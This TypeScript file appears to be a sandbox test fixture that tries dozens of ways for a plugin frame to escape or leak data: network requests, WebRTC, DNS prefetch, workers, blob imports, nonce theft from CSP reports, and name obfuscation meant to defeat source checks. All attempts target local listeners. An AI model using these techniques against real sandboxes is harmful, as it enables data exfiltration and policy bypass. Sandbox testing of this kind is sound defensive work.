/** Addresses on this machine that listen, and must never be reached. */
export interface Listeners {
  /** Each attempt asks here for a path of its own name. */
  http: string
  webSocket: string
  /** A port that hears a connection without a request, too. */
  tcpPort: number
  stun: string
  /** Host name under localhost, so that looking a name up below it asks nobody: the browser notes that it looked. */
  name: string
}

/**
 * Source text of `attemptAll`, which tries every way out of a frame that is known to us and answers what each came
 * to: "REACHED …" or "refused: …". Names are built from pieces, as an attacker would, so that the checks on the
 * source cannot be what stops them. It runs in a plugin, and in a page without any policy that shows it would work.
 */
export const escapeAttempts = ({ http, webSocket, tcpPort, stun, name }: Listeners): string => `
const realm = globalThis as unknown as Record<string, any>
const reach = (...parts: string[]): any => realm[parts.join('')]
const webSocket = ${JSON.stringify(webSocket)}
const stun = ${JSON.stringify(stun)}
const named = (label: string): string => 'http://' + label + '.' + ${JSON.stringify(`${name}:${tcpPort}`)}

const add = (tag: string, set: Record<string, string>, text = ''): HTMLElement => {
  const made = document.createElement(tag)
  for (const [key, value] of Object.entries(set)) made.setAttribute(key, value)
  made.textContent = text
  document.body.append(made)
  return made
}
/** In a frame no Blob has an address, so there it is tried by one that holds the code itself. */
const blob = (code: string): string =>
  'createObjectURL' in URL
    ? URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
    : 'data:text/javascript,' + encodeURIComponent(code)
const quote = (text: string): string => JSON.stringify(text)

/** Each is given the address where it would be heard. */
const attempts: Record<string, (at: string) => unknown> = {
  parentDocument: () => reach('par', 'ent')['docu' + 'ment'].title,
  topDocument: () => reach('t', 'op')['docu' + 'ment'].title,
  frameElement: () => String(reach('frame', 'Element') ?? raise('none')),
  cookieRead: () => document['coo' + 'kie' as 'title'] || raise('empty'),
  cookieWrite: () => {
    ;(document as any)['coo' + 'kie'] = 'a=b'
    return (document as any)['coo' + 'kie'] || raise('empty')
  },
  localStorage: () => reach('local', 'Storage').length,
  sessionStorage: () => reach('session', 'Storage').length,
  indexedDb: () =>
    new Promise((resolve, reject) => {
      const request = reach('indexed', 'DB').open('x')
      request.onsuccess = () => resolve('opened')
      request.onerror = () => reject(request.error)
    }),
  cacheStorage: () => reach('cac', 'hes').open('x'),
  serviceWorker: () => reach('navi', 'gator')['service' + 'Worker'].register('worker.js'),
  evaluate: () => reach('ev', 'al')('1 + 1'),
  functionConstructor: () => new (reach('Func', 'tion'))('return 1')(),
  nonceOfScript: () =>
    [...document.querySelectorAll('script')].map((made) => made.nonce).filter(Boolean)[0] ?? raise('none'),

  fetch: (at) => reach('fet', 'ch')(at, { mode: 'no-cors' }),
  xhr: (at) =>
    new Promise((resolve, reject) => {
      const request = new (reach('XML', 'HttpRequest'))()
      request.open('GET', at)
      request.onload = () => resolve('loaded')
      request.onerror = () => reject(new Error('blocked'))
      request.send()
    }),
  beacon: (at) => (reach('navi', 'gator')['send' + 'Beacon'](at, 'leak') ? 'queued' : raise('refused')),
  image: (at) => loads(add('img', { src: at })),
  audio: (at) => loads(add('audio', { src: at })),
  video: (at) => loads(add('video', { src: at })),
  videoPoster: (at) => loads(add('video', { poster: at })),
  stylesheet: (at) => loads(add('link', { rel: 'style' + 'sheet', href: at })),
  cssBackground: (at) => (add('div', { style: 'width:9px;height:9px;background:url(' + at + ')' }), 'styled'),
  cssImport: (at) => (add('style', {}, '@import "' + at + '";'), 'styled'),
  font: (at) => {
    add('style', {}, '@font-face{font-family:leak;src:url(' + at + ')}')
    add('p', { style: 'font-family:leak' }, 'leak')
    return 'styled'
  },
  object: (at) => loads(add('object', { data: at })),
  embed: (at) => loads(add('embed', { src: at })),
  webSocket: () =>
    new Promise((resolve, reject) => {
      const socket = new (reach('Web', 'Socket'))(webSocket + '/webSocket')
      socket.onopen = () => resolve('opened')
      socket.onerror = () => reject(new Error('blocked'))
    }),
  eventSource: (at) =>
    new Promise((resolve, reject) => {
      const source = new (reach('Event', 'Source'))(at)
      source.onopen = () => resolve('opened')
      source.onerror = () => reject(new Error('blocked'))
    }),
  webTransport: (at) => new (reach('Web', 'Transport'))(at.replace('http:', 'https:')).ready,
  webRtc: () => gather(reach('RTC', 'PeerConnection') ?? reach('webkit', 'RTC', 'PeerConnection')),
  webRtcInNestedFrame: () => gather((nest('<p>nested</p>').contentWindow as any)['RTC' + 'PeerConnection']),
  popup: (at) => reach('op', 'en')(at) ?? raise('blocked'),
  topNavigation: (at) => {
    reach('t', 'op')['loc' + 'ation'] = at
    return 'assigned'
  },
  form: (at) => {
    const form = add('form', { action: at, method: 'post' }) as HTMLFormElement
    form.submit()
    return 'submitted'
  },
  nestedFrame: (at) => loads(add('iframe', { src: at })),
  frameOfScript: (at) => loads(add('iframe', { src: 'javascript:fetch(' + quote(at) + ',{mode:"no-cors"})' })),
  prefetch: (at) => loads(add('link', { rel: 'pre' + 'fetch', href: at })),
  preload: (at) => loads(add('link', { rel: 'pre' + 'load', as: 'image', href: at })),
  linkPing: (at) => (add('a', { href: '#', ping: at }).click(), 'clicked'),
  dnsPrefetch: () => (add('link', { rel: 'dns-' + 'prefetch', href: named('dns-prefetch') }), 'added'),
  preconnect: () => (add('link', { rel: 'pre' + 'connect', href: named('preconnect') }), 'added'),
  preconnectInNestedFrame: () => loads(nest('<link rel=preconnect href=' + named('preconnect-nested') + '>')),

  script: (at) => loads(add('script', { src: at })),
  moduleScript: (at) => loads(add('script', { type: 'module', src: at })),
  modulePreload: (at) => loads(add('link', { rel: 'modulepreload', href: at })),
  workerFetch: (at) => work('fetch(' + quote(at) + ',{mode:"no-cors"}).then(done,fail)'),
  workerImportScripts: (at) => work('try{importScripts(' + quote(at) + ');done()}catch{fail()}'),
  moduleWorkerStatic: (at) => work('import ' + quote(at) + ';done()', 'module'),
  moduleWorkerDynamic: (at) => work('import(' + quote(at) + ').then(done,fail)', 'module'),
  // Code that nobody reviewed, from text that the plugin holds. Each raises a flag of its own name.
  blobScript: async () => (await loads(add('script', { src: flagging('blobScript') })), flag('blobScript')),
  blobModule: async () =>
    (await loads(add('script', { type: 'module', src: flagging('blobModule') })), flag('blobModule')),
  inlineScript: () => (add('script', {}, 'globalThis.inlineScript=1'), flag('inlineScript')),
  scriptInHtml: () => {
    const made = add('p', {})
    made.innerHTML = '<img src="data:," onerror="globalThis.scriptInHtml=1">'
    return flag('scriptInHtml')
  },
  textInTimer: () => (reach('set', 'Timeout')('globalThis.textInTimer=1'), flag('textInTimer')),
  blobWorker: () => work('done()'),
  blobModuleWorker: () => work('done()', 'module'),
  inlineInNestedFrame: () => (nest('<script>parent.postMessage("flag inlineInNestedFrame","*")</scr' + 'ipt>'), flag('inlineInNestedFrame')),
  blobInNestedFrame: () => {
    const address = blob('parent.postMessage("flag blobInNestedFrame","*")')
    nest('<script src="' + address + '"></scr' + 'ipt>')
    return flag('blobInNestedFrame')
  },
  // A report of what the policy refused quotes the policy, and its nonce with it.
  nonceScript: async (at) => loads(add('script', { nonce: await reportedNonce(), src: at })),
  nonceModule: async (at) => loads(add('script', { nonce: await reportedNonce(), type: 'module' }, 'import ' + quote(at))),
  nonceInline: async (at) => loads(add('script', { nonce: await reportedNonce() }, 'import(' + quote(at) + ')')),
  nonceSpeculation: async (at) =>
    loads(add('script', { nonce: await reportedNonce(), type: 'speculationrules' }, speculation(at))),
  speculation: (at) => loads(add('script', { type: 'speculationrules' }, speculation(at))),
}

const speculation = (at: string): string => JSON.stringify({ prefetch: [{ urls: [at], eagerness: 'immediate' }] })

function raise(message: string): never {
  throw new Error(message)
}

function loads(made: HTMLElement): Promise<string> {
  return new Promise((resolve, reject) => {
    made.onload = () => resolve('loaded')
    made.onerror = () => reject(new Error('blocked'))
  })
}

const nest = (content: string): HTMLIFrameElement => add('iframe', { srcdoc: content }) as HTMLIFrameElement

function work(code: string, type = 'classic'): Promise<string> {
  return new Promise((resolve, reject) => {
    const says = 'const done=()=>postMessage("done"),fail=()=>postMessage("blocked");'
    const worker = new (reach('Wor', 'ker'))(blob(says + code), { type })
    worker.onmessage = ({ data }: MessageEvent) => (data === 'done' ? resolve('done') : reject(new Error(data)))
    worker.onerror = () => reject(new Error('no worker'))
  })
}

addEventListener('message', ({ data }) => {
  const [, name] = /^flag (\\w+)$/.exec(String(data)) ?? []
  if (name) realm[name] = 1
})

const flagging = (name: string): string => blob('globalThis.' + name + '=1')

/** Waits for the code that raises the flag. */
async function flag(name: string): Promise<string> {
  for (let turn = 0; turn < 50 && !realm[name]; turn += 1) await new Promise((resolve) => setTimeout(resolve, 20))
  return realm[name] ? 'ran' : raise('did not run')
}

async function gather(Connection: any): Promise<string> {
  if (!Connection) throw new Error('no constructor')
  const connection = new Connection({ iceServers: [{ urls: 'stun:' + stun }] })
  connection.createDataChannel('leak')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((resolve) => setTimeout(resolve, 500))
  return 'gathered'
}

function reportedNonce(): Promise<string> {
  return new Promise((resolve, reject) => {
    document.addEventListener('securitypolicyviolation', ({ originalPolicy }) => {
      const nonce = /'nonce-([^']+)'/.exec(originalPolicy)?.[1]
      if (nonce) resolve(nonce)
    })
    add('img', { src: 'http://refused.localhost/' })
  })
}

async function outcomeOf(name: string, patienceMs: number): Promise<string> {
  try {
    const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), patienceMs))
    const at = ${JSON.stringify(`${http}/`)} + name
    return 'REACHED ' + String(await Promise.race([Promise.resolve(at).then(attempts[name]), late]))
  } catch (error) {
    return 'refused: ' + (error as Error).message
  }
}

/** What each attempt came to so far. */
const outcomes: Record<string, string> = {}

/** All at once: most that is refused is refused by silence, and each would take its time. */
async function attemptAll(names = Object.keys(attempts), patienceMs = 1_500): Promise<void> {
  await Promise.all(names.map(async (name) => (outcomes[name] = await outcomeOf(name, patienceMs))))
}
`

/** More of them, which no plugin can be built with: see withComputedImports(). */
export const importAttempts = `
// While the module of the plugin itself is still on its way.
const begun = (globalThis as any).importAt(blob('export const ran = "ran"')).then(({ ran }: any) => ran)
begun.catch(() => {})
Object.assign(attempts, {
  moduleImport: (at: string) => (globalThis as any).importAt([at].join('')),
  importFromBlob: (at: string) => (globalThis as any).importAt(blob('await import(' + quote(at) + ')')),
  staticImportFromBlob: (at: string) => (globalThis as any).importAt(blob('import ' + quote(at))),
  importOfBlob: () => (globalThis as any).importAt(blob('export const ran = "ran"')).then(({ ran }: any) => ran),
  importOfBlobAtStart: () => begun,
  importOfDataAddress: () =>
    (globalThis as any).importAt('data:text/javascript,export const ran = 1').then(({ ran }: any) => ran),
  secondImportMap: (at: string) => {
    add('script', { type: 'importmap' }, JSON.stringify({ imports: { leak: at } }))
    return (globalThis as any).importAt(['le', 'ak'].join(''))
  },
})
`
